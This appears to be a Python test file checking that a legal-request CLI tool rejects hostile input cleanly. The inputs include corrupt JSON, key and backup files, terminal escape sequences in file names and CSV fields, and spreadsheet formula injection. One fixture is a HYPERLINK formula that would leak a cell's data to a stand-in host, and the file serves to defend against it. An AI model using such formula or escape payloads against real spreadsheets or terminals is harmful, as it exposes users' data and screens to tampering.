"""Issue 14, hostile input: a clear message and exit 1, never a traceback or raw escapes."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lawfulreq.db.engine import DatabaseTarget
from lawfulreq.security.keys import keyinfo_path
from lawfulreq.services.backup import MAGIC
from lawfulreq.services.base import Actor
from lawfulreq.services.registry import AppServices
from tests.conftest import TEST_PASSWORD, run_cli
from tests.lookup.data import CUSTOMERS, write

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def cli(
    any_target: DatabaseTarget,
    actors: dict[str, Actor],
    monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
):  # type: ignore[no-untyped-def]
    """Run the CLI as fg; returns (exit code, stdout bytes, stderr bytes)."""
    if not any_target.is_sqlite:
        pytest.skip("command-line file handling is the same on both backends")
    monkeypatch.setenv("LAWFULREQ_PASSWORD", TEST_PASSWORD)
    db = str(any_target.sqlite_path)

    def run(*argv: str) -> tuple[int, bytes, bytes]:
        capsysbinary.readouterr()
        code = run_cli(["--db", db, "--user", "fg", *argv])
        out, err = capsysbinary.readouterr()
        assert b"Traceback" not in err
        return code, out, err

    return run


def _refused(result: tuple[int, bytes, bytes], *needles: bytes) -> None:
    code, _out, err = result
    assert code == 1, err
    assert err.startswith(b"lawfulreq: error: "), err
    for needle in needles:
        assert needle in err, err


def test_case_file_not_utf8(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "case.json"
    bad.write_bytes(b'{"notes": "caf\xe9"}')
    _refused(cli("case", "new", str(bad)), b"not UTF-8")


def test_case_file_nested_100000_deep(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000)
    _refused(cli("case", "new", str(deep)), b"nested deeper")


def test_file_name_with_a_byte_that_is_not_utf8(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    name = os.fsdecode(os.fsencode(str(tmp_path)) + b"/case\xff\x1b[31m.json")
    Path(name).write_bytes(b"{}")
    result = cli("case", "new", name)
    _refused(result, b"case\\xff\\x1b[31m.json")
    assert b"\x1b" not in result[2]


@pytest.mark.parametrize(
    "content",
    [
        b"not json",
        b"{}",
        b"[1, 2]",
        b'{"mode": "passphrase"}',
        b'{"mode": "passphrase", "key_id": "abc", "salt": "zz"}',
        b'{"mode": "passphrase", "key_id": 5, "salt": "00"}',
        b'{"mode": ["x"], "key_id": "abc"}',
        b"\xff\xfe\x00",
        b"[" * 50_000,
    ],
)
def test_corrupt_keyinfo(cli, any_target: DatabaseTarget, content: bytes) -> None:  # type: ignore[no-untyped-def]
    assert any_target.sqlite_path is not None
    keyinfo_path(any_target.sqlite_path).write_bytes(content)
    _refused(cli("case", "list"), b"key info")


@pytest.mark.parametrize(
    "header",
    [b"{}", b"[]", b"null", b'{"kdf": {"salt": 5}}', b"\xff", b'{"kdf": {"salt": "00"}}'],
)
def test_backup_header_damaged(cli, tmp_path: Path, header: bytes) -> None:  # type: ignore[no-untyped-def]
    backup = tmp_path / "b.lrbackup"
    backup.write_bytes(MAGIC + struct.pack(">I", len(header)) + header + b"payload")
    os.environ["LAWFULREQ_BACKUP_PASSPHRASE"] = "a-long-enough-passphrase"
    try:
        _refused(cli("restore", str(backup), "--yes"), b"backup")
    finally:
        del os.environ["LAWFULREQ_BACKUP_PASSPHRASE"]


def test_backup_header_length_beyond_the_file(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    backup = tmp_path / "b.lrbackup"
    backup.write_bytes(MAGIC + struct.pack(">I", 2**32 - 1) + b"{}")
    os.environ["LAWFULREQ_BACKUP_PASSPHRASE"] = "a-long-enough-passphrase"
    try:
        _refused(cli("restore", str(backup), "--yes"), b"backup")
    finally:
        del os.environ["LAWFULREQ_BACKUP_PASSPHRASE"]


HEADER = CUSTOMERS.splitlines()[0]


@pytest.mark.parametrize("char", ["\x1b", "\x07", "\x00"])
def test_control_characters_in_imported_text_are_rejected_with_line_and_column(
    cli, tmp_path: Path, char: str
) -> None:  # type: ignore[no-untyped-def]
    content = CUSTOMERS + f"C7;person;Evil{char}[2J Name;Weg;1;;1234 AB;Ede;NL;;;;;;yes\n"
    path = write(tmp_path, "customers.csv", content)
    code, out, err = cli("import", "customers", str(path))
    assert code == 1
    text = out + err
    assert f"customers.csv:6:name: control character U+{ord(char):04X}".encode() in text, text
    assert char.encode() not in text
    code, out, err = cli("--json", "import", "customers", str(path))
    assert char.encode() not in out + err


def test_skip_report_is_formula_safe_and_owner_only(
    services: AppServices, actors: dict[str, Actor], tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    content = CUSTOMERS + f"C8;person;{evil};Weg;1;;0000 AA;Ede;NL;@SUM(1);;;;;yes\n"
    path = write(tmp_path, "customers.csv", content)
    report = tmp_path / "skipped.csv"
    old = os.umask(0o022)
    try:
        from lawfulreq.importers.runner import ImportOptions

        services.imports.run(
            actors["fg"], "customers", path, ImportOptions(skip_bad=True, report_path=report)
        )
    finally:
        os.umask(old)
    assert stat.S_IMODE(report.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + evil in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_import_parser_process_exits_when_its_parent_is_killed(tmp_path: Path) -> None:
    lines = [HEADER]
    for index in range(4000):
        lines.append(f"C{index};person;Name {index};Weg;1;;1234 AB;Ede;NL;;;;;;yes")
    path = tmp_path / "customers.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    parent = subprocess.Popen(
        [sys.executable, "-m", "tests.security.import_parent", str(path)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
    )
    assert parent.stdout is not None
    child = int(parent.stdout.readline().strip())
    assert _alive(child)
    parent.send_signal(signal.SIGKILL)
    parent.wait(timeout=10)
    deadline = time.monotonic() + 10
    while _alive(child) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _alive(child), "the parser process outlived its parent"


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
    except OSError:
        return False
    return state != "Z"
